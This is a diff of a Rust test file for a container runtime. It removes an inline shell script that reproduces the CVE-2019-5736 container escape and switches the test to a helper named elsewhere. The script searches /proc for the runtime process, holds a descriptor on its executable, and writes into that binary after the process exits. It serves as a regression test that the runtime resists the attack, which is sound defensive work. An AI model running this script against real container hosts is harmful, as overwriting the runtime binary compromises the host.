@@ -604,31 +604,6 @@ fn idmapped_mounts_are_refused_clearly() {
     o.fails_with(&format!("mounts[{n}]"));
 }
 
-/// The CVE-2019-5736 attacker of tests/escape.rs (see there), in short: find the process
-/// running `marker` (the runtime's binary, run as the interpreter of `#!/proc/self/exe`),
-/// take an fd on its /proc/PID/exe, let it go, and append to the binary once it exited.
-fn attacker(marker: &str, fifo: &str, result: &str) -> String {
-    format!(
-        r#"#!/bin/sh
-end=$(( $(date +%s) + 12 )); pid=
-while [ -z "$pid" ] && [ $(date +%s) -lt $end ]; do
-  for p in /proc/[0-9]*; do
-    case "$( (tr '\0' ' ' < $p/cmdline) 2>/dev/null)" in *"{marker}"*) pid=${{p#/proc/}};; esac
-  done
-  sleep 0.1
-done
-[ -n "$pid" ] || {{ echo NOPROC DONE >> {result}; exec sleep 1000; }}
-if (true < /proc/$pid/exe) 2>/dev/null; then exec 3< /proc/$pid/exe; echo GOT-FD >> {result}; else echo NO-FD >> {result}; fi
-cat {fifo} > /dev/null
-while [ -e /proc/$pid ]; do sleep 0.05; done
-sleep 0.3
-if [ -e /proc/self/fd/3 ] && (echo PWNED >> /proc/self/fd/3) 2>/dev/null; then echo WROTE >> {result}; else echo WRITE-FAILED >> {result}; fi
-echo DONE >> {result}
-exec sleep 1000
-"#
-    )
-}
-
 /// CVE-2019-5736 against a runtime binary the user owns (a build in their home): no
 /// read-only mount can be made without privileges, and the container's root is that user,
 /// who may write the file. capsa execs the workload from a sealed memfd copy instead.
@@ -660,7 +635,7 @@ fn cve_2019_5736_against_a_binary_the_user_owns() {
     let fifo_in = format!("/tmp/fifo-{}", r.ctx.id);
     exec(
         &rootfs.join("bin/attack"),
-        &attacker(&marker, &fifo_in, "/tmp/result"),
+        &attacker_script(&marker, &fifo_in, "/tmp/result"),
     );
     r.ctx.config["root"]["readonly"] = json!(false);
     r.ctx.args(&["/bin/attack"]);
